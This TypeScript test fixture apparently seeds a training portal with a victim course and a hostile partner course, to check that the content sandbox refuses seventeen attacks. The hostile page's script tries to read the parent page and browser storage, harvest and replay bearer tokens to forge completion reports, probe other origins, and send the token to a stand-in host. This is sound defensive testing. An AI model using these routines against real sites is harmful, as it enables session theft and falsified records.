import type { Clock } from '@vr/server/clock';
import type { Database } from '@vr/server/platform/db/database';
import { builders } from '@vr/server/platform/demo/builders';
import type { Storage } from '@vr/server/platform/storage/storage';
import { PASSWORD } from './people.ts';

/**
 * A learner whose company has two trainings: its own (the victim), which stores data in the browser, and a partner's, which
 * tries to escape from its frame and to read that data.
 */
export const HOSTILE = {
  email: 'victim@hostile.example',
  title: 'A hostile build',
  victim: 'A private training',
};

/** The names of the attacks of the hostile page. Each must result in 'refused'. */
export const ATTEMPTS = [
  'read the portal page',
  'navigate the portal away',
  'open a window',
  'read the portal session',
  'read its own cookie',
  'call the portal as the person',
  'call the portal with its own token',
  'report on another training',
  "read the victim's storage",
  "read the victim's databases",
  "read the victim's caches and private files",
  "read the victim's files on its own origin",
  "read the victim's files on the victim's origin",
  "frame the victim's page",
  'report on the victim with a token that it finds',
  'install a service worker',
  'send data elsewhere',
] as const;

/**
 * The page of the victim. Stores a secret in every kind of browser storage, reports a session, and shows whether it found
 * an earlier secret. If the hostile page could open the victim's page, it would notice the inner frame.
 */
const VICTIM = `<!doctype html><html lang="en"><title>victim</title><body><pre id="result"></pre>
<iframe hidden></iframe>
<script src="/portal-player.js"></script><script>
const player = PortalPlayer.start();
const done = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve(request.result);
  request.onerror = () => reject(request.error);
});
(async () => {
  const found = localStorage.getItem('secret') ?? 'nothing';
  localStorage.setItem('secret', 'of the victim');
  sessionStorage.setItem('secret', 'of the victim');
  const opening = indexedDB.open('victim');
  opening.onupgradeneeded = () => opening.result.createObjectStore('secrets');
  const db = await done(opening);
  await done(db.transaction('secrets', 'readwrite').objectStore('secrets').put('of the victim', 1));
  // Browsers have these only on secure addresses.
  if (window.caches) await (await caches.open('victim')).put('secret', new Response('of the victim'));
  if (navigator.storage?.getDirectory) await (await navigator.storage.getDirectory()).getFileHandle('secret', { create: true });
  player.step('a', { success: true });
  player.saveState('of the victim');
  document.getElementById('result').textContent = (await player.flush()) + ', found ' + found;
})();
</script></body></html>`;

/** @param victim The path of the victim's page. */
const hostilePage = (
  victimId: number,
  victim: string,
) => `<!doctype html><html lang="en"><title>hostile</title><body><pre id="result"></pre><script>
const victimId = ${victimId}, victim = '${victim}';
// The victim has another name, or another port.
const others = /\\bt\\d+\\./.test(location.host)
  ? [location.origin.replace(/t\\d+\\./, 't' + victimId + '.')]
  : [-2, -1, 1, 2].map((by) => 'http://' + location.hostname + ':' + (Number(location.port) + by));
const given = new URLSearchParams(location.hash.slice(1));
const api = given.get('api'), token = given.get('userToken'), trainingId = Number(given.get('trainingId'));
const refuseUnless = (works) => { if (!works) throw new Error('refused'); };
const bearer = { authorization: 'Bearer ' + token };
const attempts = {
  'read the portal page': () => parent.document.body.innerHTML,
  'navigate the portal away': () => { top.location.href = 'about:blank'; },
  'open a window': () => refuseUnless(open('about:blank')),
  'read the portal session': () => refuseUnless(localStorage.getItem('token') ?? sessionStorage.getItem('token')),
  'read its own cookie': () => refuseUnless(document.cookie),
  'call the portal as the person': () => fetch(api + '/api/v1/users/profile', { credentials: 'include' }),
  'call the portal with its own token': () => fetch(api + '/api/v1/users/profile', { headers: bearer }),
  'report on another training': async () => {
    const answer = await fetch(api + '/api/v1/trainings/' + (trainingId - 1) + '/sessions', {
      method: 'POST', headers: { ...bearer, 'content-type': 'application/json' },
      body: JSON.stringify({ id: crypto.randomUUID(), fileType: 'WEB_GL', startedAt: new Date().toISOString(),
        sentAt: new Date().toISOString(), seconds: 1, finished: false, steps: [] }) });
    refuseUnless(answer.ok);
  },
  "read the victim's storage": () => refuseUnless(localStorage.length + sessionStorage.length + Number(/secret/.test(document.cookie))),
  "read the victim's databases": async () => refuseUnless((await indexedDB.databases()).length),
  "read the victim's caches and private files": async () => {
    let found = window.caches ? (await caches.keys()).length : 0;
    if (navigator.storage?.getDirectory)
      for await (const name of (await navigator.storage.getDirectory()).keys()) found += Number(name !== '');
    refuseUnless(found);
  },
  "read the victim's files on its own origin": async () => refuseUnless((await fetch(victim)).ok),
  "read the victim's files on the victim's origin": async () => {
    await Promise.any(others.map((other) => fetch(other + victim, { mode: 'no-cors', credentials: 'include' })));
  },
  "frame the victim's page": async () => {
    for (const other of others) {
      const frame = document.createElement('iframe');
      frame.src = other + victim;
      await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
      // The number of frames of a page can be read from another origin. A refusal has none.
      const reached = frame.contentWindow.length > 0;
      frame.remove();
      if (reached) return;
    }
    refuseUnless(false);
  },
  'report on the victim with a token that it finds': async () => {
    const texts = [token, name, document.referrer, document.cookie, JSON.stringify(history.state ?? ''),
      ...Object.values(localStorage), ...Object.values(sessionStorage)];
    const tokens = new Set(texts.flatMap((text) => text.match(/[\\w-]{40,}/g) ?? []));
    for (const found of tokens) {
      const answer = await fetch(api + '/api/v1/trainings/' + victimId + '/sessions', {
        method: 'POST', headers: { authorization: 'Bearer ' + found, 'content-type': 'application/json' },
        body: JSON.stringify({ id: crypto.randomUUID?.() ?? '0d5c4f4e-6c0c-4a4e-9d3f-5d2f1c8f7b10', fileType: 'WEB_GL',
          startedAt: new Date().toISOString(), sentAt: new Date().toISOString(), seconds: 1, progress: 100, finished: true, steps: [] }) });
      if (answer.ok) return;
    }
    refuseUnless(false);
  },
  'install a service worker': () => navigator.serviceWorker.register('index.html'),
  'send data elsewhere': () => fetch('http://127.0.0.1:9/?' + token, { mode: 'no-cors' }),
};
(async () => {
  const result = {};
  for (const [name, attempt] of Object.entries(attempts))
    try { await attempt(); result[name] = 'succeeded'; } catch { result[name] = 'refused'; }
  document.getElementById('result').textContent = JSON.stringify(result);
})();
</script></body></html>`;

/** Adds the victim, the hostile training, their publishers and the learner to the portal. */
export async function addHostileTraining(db: Database, clock: Clock, storage: Storage): Promise<void> {
  const build = builders(db, clock);
  const client = await build.client({ name: 'Hostile' });
  await build.person({ clientId: client.id, email: HOSTILE.email, password: PASSWORD });
  const add = async (owner: Parameters<typeof build.training>[0], title: string, page: () => string) => {
    const text = { title, briefDescription: 'For the tests.', fullDescription: '', goals: [] };
    const { id } = await build.training({ ...owner, texts: { en: text } });
    const file = await build.contentFile({ trainingId: id, fileType: 'WEB_GL', entry: 'index.html' });
    await storage.put(`${file.storagePrefix}/index.html`, Buffer.from(page()));
    return { id, page: `/content/${id}/${file.id}/index.html` };
  };
  const victim = await add({ clientId: client.id }, HOSTILE.victim, () => VICTIM);
  const partner = await build.client({ name: 'Hostile partner', type: 'PARTNER' });
  const reviewed = { clientId: partner.id, status: 'VALIDATED', alreadyPublished: true } as const;
  const hostile = await add(reviewed, HOSTILE.title, () => hostilePage(victim.id, victim.page));
  await build.offer({ clientId: client.id, trainingIds: [hostile.id] });
}
